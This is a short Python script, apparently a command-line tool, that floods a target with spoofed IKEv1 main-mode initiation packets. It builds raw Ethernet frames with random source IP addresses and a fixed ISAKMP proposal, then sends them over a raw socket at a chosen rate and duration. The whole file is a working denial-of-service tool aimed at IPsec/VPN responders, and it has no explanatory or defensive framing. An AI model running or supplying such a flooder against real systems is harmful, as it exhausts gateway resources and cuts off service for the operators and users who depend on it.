#!/usr/bin/env python3
"""flood.py IFACE DESTINATION-MAC DESTINATION SECONDS RATE: first messages of main mode from random sources, in frames of their own.

Prints how many were sent and the seconds that took."""
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def frame(mac, destination):
    # One proposal of one transform: 3DES, SHA-1, preshared key, group 2.
    attributes = bytes.fromhex('80010005800200028003000180040002800b0001800c7080')
    transform = struct.pack('>BBHBBH', 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    proposal = struct.pack('>BBHBBBB', 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    payload = struct.pack('>BBHII', 0, 0, 12 + len(proposal), 1, 1) + proposal
    isakmp = os.urandom(8) + bytes(8) + struct.pack('>BBBBII', 1, 0x10, 2, 0, 0, 28 + len(payload)) + payload
    source = struct.pack('>I', random.randrange(0x0b000000, 0xc0000000))
    header = struct.pack('>BBHHHBBH', 0x45, 0, 28 + len(isakmp), random.randrange(65536), 0, 64, 17, 0) + source + destination
    header = header[:10] + struct.pack('>H', checksum(header)) + header[12:]
    udp = struct.pack('>HHHH', 500, 500, 8 + len(isakmp), 0)
    return mac + b'\x02\0\0\0\0\x99' + b'\x08\0' + header + udp + isakmp


def main():
    interface, mac, destination, seconds, rate = sys.argv[1:6]
    mac = bytes.fromhex(mac.replace(':', ''))
    frames = [frame(mac, socket.inet_aton(destination)) for _ in range(20000)]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    start, sent, rate, seconds = time.monotonic(), 0, float(rate), float(seconds)
    while (now := time.monotonic() - start) < seconds:
        due = int(now * rate)
        if sent >= due:
            time.sleep(0.0005)
        for _ in range(min(due - sent, 256)):
            try:
                out.send(frames[sent % len(frames)])
            except OSError:
                pass
            sent += 1
    print(f'{sent} {now:.1f}')


main()
